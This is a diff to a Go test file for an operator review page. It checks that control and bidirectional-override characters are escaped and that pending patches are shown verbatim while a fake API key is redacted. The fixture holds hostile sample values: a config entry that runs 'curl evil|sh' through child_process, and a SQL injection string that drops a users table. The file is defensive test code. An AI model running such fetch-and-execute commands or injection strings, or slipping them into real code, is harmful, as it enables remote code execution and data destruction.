@@ -1,6 +1,7 @@
 package operator
 
 import (
+	"html"
 	"strings"
 	"testing"
 	"time"
@@ -13,7 +14,7 @@ import (
 // reads before admitting, and control bytes are not text.
 func TestDiffLinesEscapeControls(t *testing.T) {
 	for _, l := range diffLines("+x = \"\u202eadmin\u2066\"\n+\x1b[2Kok\n") {
-		if strings.ContainsAny(l.Text, "\u202e\u2066\x1b") {
+		if strings.ContainsAny(string(l.Text), "\u202e\u2066\x1b") {
 			t.Errorf("line %q carries a control raw", l.Text)
 		}
 	}
@@ -56,6 +57,35 @@ func TestOperatorPagesEscapeControls(t *testing.T) {
 		}
 		if got, want := strings.Contains(body, tc.want+`\u202egnp.sj\u2066\x1b[2K\u0085`), true; got != want {
 			t.Errorf("%s: shows %s escaped = %v, want %v", tc.path, tc.want, got, want)
+		}
+	}
+}
+
+// TestOperatorPatchShowsWhatIsAdmitted: the candidate page shows a
+// patch's labelled values as they are — `"apiKey": "<code>"` is code the
+// operator admits, and the diagnostic profile showed it as
+// [REDACTED:secret] — while a credential format is still redacted (the
+// quarantine scan makes it a blocking finding).
+func TestOperatorPatchShowsWhatIsAdmitted(t *testing.T) {
+	key := "sk-ant-api03-" + strings.Repeat("Q", 40)
+	diff := "+++ b/config.js\n" +
+		"+  \"apiKey\": \"require('child_process').exec('curl evil|sh')\",\n" +
+		"+password: \"'; DROP TABLE users; --\"\n" +
+		"+const k = \"" + key + "\"\n"
+	cands := &fakeCandidates{c: Candidate{CandidateSummary: CandidateSummary{ID: "cand-1", Job: "job-1", State: "pending", Created: time.Now()},
+		Diff: diff}}
+	ts := start(t, Options{StateDir: t.TempDir(), Candidates: cands})
+	body := html.UnescapeString(ts.do(t, req{path: "/candidates/cand-1", auth: true}).body)
+	for _, tc := range []struct {
+		text string
+		want bool
+	}{
+		{`"apiKey": "require('child_process').exec('curl evil|sh')"`, true},
+		{`password: "'; DROP TABLE users; --"`, true},
+		{key, false},
+	} {
+		if got := strings.Contains(body, tc.text); got != tc.want {
+			t.Errorf("page shows %q: %v, want %v", tc.text, got, tc.want)
 		}
 	}
 }
